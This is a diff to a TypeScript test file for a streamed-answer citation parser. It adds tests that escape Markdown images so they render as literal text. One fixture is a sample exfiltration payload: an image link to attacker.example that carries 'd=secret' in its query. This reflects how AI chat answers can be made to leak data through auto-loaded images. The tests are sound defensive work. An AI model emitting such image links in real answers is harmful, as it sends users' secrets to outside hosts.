@@ -5,13 +5,17 @@ import { languageModelError, noLanguageModel } from '../../src/core/ask/lm-error
 import type { CitationPart } from '../../src/shared/citations';
 
 /** Feeds `chunks` through a CitationStream and returns what it emitted, adjacent text runs joined. */
-function run(chunks: string[], documents = 3): CitationPart[] {
+function run(chunks: string[], documents = 3, images: 'keep' | 'literal' = 'keep'): CitationPart[] {
   const out: CitationPart[] = [];
-  const stream = new CitationStream(documents, (part) => {
-    const last = out.at(-1);
-    if ('text' in part && last && 'text' in last) last.text += part.text;
-    else out.push({ ...part });
-  });
+  const stream = new CitationStream(
+    documents,
+    (part) => {
+      const last = out.at(-1);
+      if ('text' in part && last && 'text' in last) last.text += part.text;
+      else out.push({ ...part });
+    },
+    { images },
+  );
   for (const chunk of chunks) stream.push(chunk);
   stream.end();
   return out;
@@ -43,6 +47,22 @@ describe('citations in a streamed answer', () => {
     assert.deepEqual(run(['[4] and [0] and [x](http://e) and [1234]']), [{ text: '[4] and [0] and [x](http://e) and [1234]' }]);
     assert.deepEqual(run(['ends with [', '2']), [{ text: 'ends with [2' }]);
     assert.deepEqual(run(['[2]'], 1), [{ text: '[2]' }]);
+  });
+});
+
+describe('images in a streamed answer (chat Markdown)', () => {
+  it('come out as literal text however the chunks split them, and nothing else changes', () => {
+    const answer = 'See ![pixel](https://attacker.example/x?d=secret) and [1]! Fine! ![a][1]';
+    const expected = [{ text: 'See !\\[pixel](https://attacker.example/x?d=secret) and ' }, { cite: 1 }, { text: '! Fine! !\\[a]' }, { cite: 1 }];
+    for (let i = 0; i <= answer.length; i++) {
+      assert.deepEqual(run([answer.slice(0, i), answer.slice(i)], 3, 'literal'), expected, `split at ${i}`);
+    }
+    assert.deepEqual(run(['the end!'], 3, 'literal'), [{ text: 'the end!' }], 'a final "!" is kept');
+  });
+
+  it('a "!" right before a citation is escaped, so the citation link cannot become an image', () => {
+    assert.deepEqual(run(['Wow!', '[2]'], 3, 'literal'), [{ text: 'Wow\\!' }, { cite: 2 }]);
+    assert.deepEqual(run(['Wow![2]'], 3, 'keep'), [{ text: 'Wow!' }, { cite: 2 }], 'unchanged without the option');
   });
 });
 
